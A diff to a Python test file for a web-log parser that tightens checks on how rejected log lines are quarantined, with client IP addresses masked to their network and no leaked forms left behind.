@@ -758,11 +837,13 @@ def test_reject_line_is_scrubbed(fmt: str, line: str | bytes, reason: str) -> No
     assert rejects[0]["reason"] == reason
     assert isinstance(kept, str)
     assert kept  # the quarantine keeps (scrubbed) evidence, not an empty string
-    assert len(kept.encode()) <= 2048 * 4
-    for addr in addresses_in(raw.decode("utf-8", "replace")):
-        if ipaddress.ip_address(addr) == ipaddress.ip_network(f"{addr}/0", strict=False).network_address:
-            continue
-        assert addr not in kept
+    assert len(kept) <= 2048 + 16  # cut to the quarantine limit (masking may add a few characters)
+    addrs = addresses_in(raw.decode("utf-8", "replace"))
+    masker = privacy.ClientMasker()
+    for addr in addrs:
+        assert masker.network_of(addr) in kept  # the evidence keeps the network in its place
+        for form in leaked_forms(addr, masker):
+            assert form not in kept, (form, kept[:200])
 
 
 def test_reject_line_exact_scrubbed_text() -> None:
@@ -880,7 +961,9 @@ def test_block_offsets_are_absolute() -> None:
         server="web1",
         sensitive_param_regex=privacy.sensitive_param_regex(privacy.DEFAULT_SENSITIVE_PARAMS),
     )
-    batch = parse_lines(split_block(block, 1000, MAX_LINE), resolve("combined"), settings, privacy.ClientMasker())
+    batch = parse_lines(
+        split_block(block, 1000, MAX_LINE), resolve("combined"), settings, privacy.ClientMasker()
+    )
     assert batch.rejects.get_column("offset").to_list() == [1000, 1009]
 
 
